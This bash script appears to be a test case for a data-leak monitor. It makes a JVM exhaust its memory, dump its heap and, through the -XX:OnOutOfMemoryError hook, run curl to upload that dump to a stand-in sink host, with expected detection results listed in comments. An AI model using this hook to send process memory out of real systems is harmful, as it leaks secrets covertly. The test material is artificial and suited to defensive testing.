#!/bin/bash
# A-jvm-oom: a JVM runs out of memory, dumps its heap by itself, and runs the command that uploads it.
# flow: -XX:+HeapDumpOnOutOfMemoryError: the JVM writes in a safepoint; -XX:OnOutOfMemoryError: its child curl reads and
#   sends while the JVM waits.
# tools: javac curl
# expect: sent counted port critical
. "$CORPUS/lib.sh"
cat >Full.java <<END
import java.util.*;
public class Full {
    public static void main(String[] arguments) {
        List<String> all = new ArrayList<>();
        while (true) all.add("$MARKER".repeat(1000) + all.size());
    }
}
END
javac Full.java
sink http
java -Xmx16m -XX:+UseSerialGC -XX:+HeapDumpOnOutOfMemoryError "-XX:HeapDumpPath=$W/oom.hprof" \
    "-XX:OnOutOfMemoryError=curl -sS -T $W/oom.hprof http://$SINK:$PORT/up" -cp . Full 2>&1 | tail -n 3
made oom.hprof
sunk 1000000
